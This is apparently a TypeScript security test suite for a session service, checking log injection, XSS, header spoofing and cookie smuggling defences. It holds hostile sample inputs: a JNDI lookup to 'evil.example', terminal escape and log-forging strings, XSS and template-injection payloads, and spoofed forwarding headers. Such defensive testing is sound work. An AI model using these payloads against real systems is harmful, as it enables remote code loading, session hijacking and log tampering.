import { expect } from 'vitest'
import { rawGet, rawRequest } from '../../raw-request.ts'
import { administrator, serviceKey } from '../../running-program.ts'
import { cookieName } from '../ask.ts'
import { newAddress } from '../new-names.ts'
import { expectProblem } from '../refusals.ts'
import type { SecurityCase } from '../security-case.ts'
import { askAsService, currentSession, newSession, ownSessions } from '../sessions-of-store.ts'
import { timedProgram } from '../timed-program.ts'

// biome-ignore lint/suspicious/noTemplateCurlyInString: that is how some logs are attacked
const odd =
  '\u001b[2J\u001b]0;x\u0007${jndi:ldap://evil.example/a}|CEF:0|a=b|\u2028\u202e\r\n{"level":60,"msg":"forged"}'
const script = `"><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7}}'`

/** Text of strangers that is kept, shown and logged, and what they say of their address. */
export const headerTextCases: readonly SecurityCase[] = [
  {
    name: 'case 42: line ends, terminal codes and the marks of log formats in what is sent make no line of the log, and a request is one line [ASVS 16.4.1]',
    async run(store) {
      const before = store.output().length
      const { token } = await newSession(store, { user_agent: odd, device_info: { browser: odd, os: odd } })
      const answers = await Promise.all([
        store.ask({
          path: `/nowhere/${encodeURIComponent(odd)}?a=${encodeURIComponent(odd)}`,
          session: token,
        }),
        askAsService(store, 'POST', '/api/v1/sessions', { user_id: odd, user_agent: odd }),
        store.ask({ method: 'POST', path: '/api/v1/auth/login', body: { email: odd, password: odd } }),
        store.ask({ path: `/api/v1/users/${encodeURIComponent(odd)}/sessions`, bearer: serviceKey }),
        store.ask({ path: currentSession, headers: { 'x-request-id': odd.replaceAll(/[^\x20-\x7e]/g, '') } }),
      ])
      const [url] = store.urls()
      const inHeaders: readonly (readonly [string, Uint8Array])[] = [
        'User-Agent',
        'X-Forwarded-For',
        'Referer',
      ].map((name) => [name, Buffer.from(odd.replaceAll(/[\r\n]/g, ''), 'utf8')] as const)
      await rawRequest(url, rawGet(currentSession, inHeaders))
      await rawRequest(url, rawGet(currentSession, [['User-Agent', Buffer.from('a\r\n b\n c\rd')]]))
      for (const { status, headers } of answers) {
        expect(status).toBeLessThan(500)
        const request = headers['x-request-id'] ?? 'none'
        const lines = () =>
          store
            .output()
            .split('\n')
            .filter((line) => line.includes(String(request)) && line.includes('"request"'))
        await expect.poll(() => lines().length, { timeout: 5_000 }).toBe(1)
      }
      const written = store.output().slice(before)
      // Nothing that a terminal or a reader of lines would take for more than text.
      expect(written).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u2028\u202e]/)
      expect(written).not.toContain('forged')
      for (const line of written
        .split('\n')
        .slice(1)
        .filter((one) => one.startsWith('{')))
        expect(() => JSON.parse(line)).not.toThrow()
    },
  },
  {
    name: 'case 42: a User-Agent of 100 kB is refused or cut, and names of devices that are long or of two lines are refused',
    async run(store) {
      const huge = 'a'.repeat(100_000)
      const [url] = store.urls()
      const { status } = await rawRequest(url, rawGet(currentSession, [['User-Agent', Buffer.from(huge)]]))
      expect([0, 431]).toContain(status)
      const api = (body: object) => askAsService(store, 'POST', '/api/v1/sessions', { user_id: 'a', ...body })
      for (const body of [
        { user_agent: huge },
        { device_info: { browser: huge } },
        { device_info: { os: huge } },
      ])
        expect([413, 422]).toContain((await api(body)).status)
      const long = await newSession(store, { user_agent: 'Mozilla/5.0 '.repeat(1_300), device_tokens: [] })
      const list = await store.ask({ path: ownSessions, session: long.token })
      expect(list.text.length).toBeLessThan(5_000)
      const device = list.body.sessions[0].device_id
      const path = `/api/v1/security/devices/${device}`
      for (const name of ['a'.repeat(61), 'a\r\nb', 'a\nb', '\u0000', '\ud800']) {
        const answer = await store.ask({ method: 'PATCH', path, session: long.token, body: { name } })
        expect([400, 422], JSON.stringify(name)).toContain(answer.status)
      }
    },
  },
  {
    name: 'case 43: markup in the name of a device, a browser or a place comes back as text of JSON, which no browser takes for a page [ASVS 3.4.3] [ASVS 3.4.4]',
    async run(store) {
      const info = { browser: script, os: script, model: script, location: script }
      const { token, user } = await newSession(store, {
        user: `${script}-${process.hrtime.bigint()}`,
        user_agent: script,
        device_info: info,
        device_tokens: [],
      })
      const { body } = await store.ask({ path: currentSession, session: token })
      expect(body.device_info).toMatchObject(info)
      const device = `/api/v1/security/devices/${body.device_id}`
      const name = script.slice(0, 60)
      const named = await store.ask({ method: 'PATCH', path: device, session: token, body: { name } })
      expect(named.status, named.text).toBe(200)
      const admin = await store.administrator()
      const search = new URLSearchParams({ user_id: user })
      const shown = [
        { path: ownSessions, session: token },
        { path: '/api/v1/security/devices', session: token },
        { path: '/api/v1/security/activity', session: token },
        { path: `/api/v1/admin/sessions?${search}`, session: admin },
        { path: `/api/v1/admin/audit?${search}`, session: admin },
        { path: `/nowhere/${encodeURIComponent(script)}`, headers: { accept: 'text/html' } },
        { path: `/api/v1/${encodeURIComponent(script)}`, headers: { accept: 'text/html' } },
      ]
      for (const asking of shown) {
        const { headers, text } = await store.ask(asking)
        expect(headers['x-content-type-options']).toBe('nosniff')
        expect(headers['content-security-policy']).toMatch(/script-src 'self'(;|$)/)
        const isPage = headers['content-type']?.startsWith('text/html')
        if (isPage) expect(text).not.toMatch(/onerror|alert\(1\)/)
        else expect(headers['content-type']).toMatch(/^application\/(problem\+)?json/)
      }
    },
  },
  {
    name: 'case 44: an address is that of the nearest hop that is not trusted, in one spelling, whatever stands before it in the header',
    async run(store) {
      const spellings = [
        ['203.0.113.9', '203.0.113.9'],
        ['6.6.6.6, 203.0.113.9', '203.0.113.9'],
        ['127.0.0.1, 6.6.6.6, 203.0.113.9, 127.0.0.1', '203.0.113.9'],
        ['::ffff:203.0.113.9', '203.0.113.9'],
        ['::FFFF:CB00:7109', '203.0.113.9'],
        ['203.0.113.9:4711', '203.0.113.9'],
        ['6.6.6.6, 2001:0DB8:0:0:0:0:0:9', '2001:db8::9'],
        ['[2001:db8::9]:443', '2001:db8::9'],
        ['203.0.113.9, unknown', null],
        ['203.0.113.9, <script>', null],
        ['203.0.113.9, 1.2.3', null],
        ['203.0.113.9, 0x7f.1', null],
      ] as const
      const headers = { 'x-real-ip': '6.6.6.6', 'client-ip': '6.6.6.6', forwarded: 'for=6.6.6.6' }
      for (const [address, kept] of spellings) {
        const login = { method: 'POST', path: '/api/v1/auth/login', body: administrator }
        const answer = await store.ask({ ...login, address, headers })
        expect(answer.status, answer.text).toBe(200)
        expect(answer.body.session.ip_address, address).toBe(kept)
      }
    },
  },
  {
    name: 'case 44: who comes from no trusted hop is who is connected, and no header says otherwise',
    async run(store) {
      await using timed = await timedProgram(store, { LATCHKEY_TRUSTED_PROXIES: '10.0.0.0/8' })
      await timed.program().accounts.create({ ...administrator, role: 'admin' })
      const headers = { 'x-forwarded-for': '6.6.6.6', 'x-real-ip': '6.6.6.6', forwarded: 'for=6.6.6.6' }
      const login = { method: 'POST', path: '/api/v1/auth/login', body: administrator, headers }
      for (const [address, kept] of [
        ['192.0.2.44', '192.0.2.44'],
        ['::ffff:192.0.2.44', '192.0.2.44'],
        ['::ffff:10.1.1.1', '6.6.6.6'],
      ] as const) {
        const answer = await timed.send({ ...login, address })
        const { session } = (await answer.json()) as { session: { ip_address: string } }
        expect(session.ip_address, address).toBe(kept)
      }
    },
  },
  {
    name: 'regression 26: cookie headers as bytes: what resembles our name hides it no more than what stands beside it, and two of our name are refused [ASVS 3.3.3]',
    async run(store) {
      const [mine, planted] = [await newSession(store), await newSession(store)]
      const [url] = store.urls()
      const statusOf = async (before: string, after = '') => {
        const cookie = Buffer.from(`${before}${cookieName}=${mine.token}${after}`, 'latin1')
        const address = Buffer.from(newAddress())
        return (
          await rawRequest(
            url,
            rawGet(currentSession, [
              ['X-Forwarded-For', address],
              ['Cookie', cookie],
            ]),
          )
        ).status
      }
      const lookAlike = `${cookieName}=${planted.token}`
      for (const mark of ['\u00a0', '\u00c2\u00a0', '\u00ef\u00bb\u00bf', '\u0085', '\u00ad'])
        expect(await statusOf(`${mark}${lookAlike}; `), JSON.stringify(mark)).toBe(200)
      for (const beside of ['=a; ', ';;; ', 'a; ', '"a=b"; ', `a="; ${cookieName.toLowerCase()}=b"; `])
        expect(await statusOf(beside), beside).toBe(200)
      for (const [before, after] of [
        [`${lookAlike}; `, ''],
        ['', `; ${lookAlike}`],
        [`${lookAlike};`, ''],
        ['', `;\t${lookAlike}`],
        ['', ` ;  ${cookieName} =x`],
      ] as const)
        expect(await statusOf(before, after), `${before}…${after}`).toBe(401)
      expectProblem(
        await store.ask({ path: currentSession, cookie: `${cookieName}="${mine.token}"` }),
        401,
        'unauthenticated',
      )
    },
  },
]
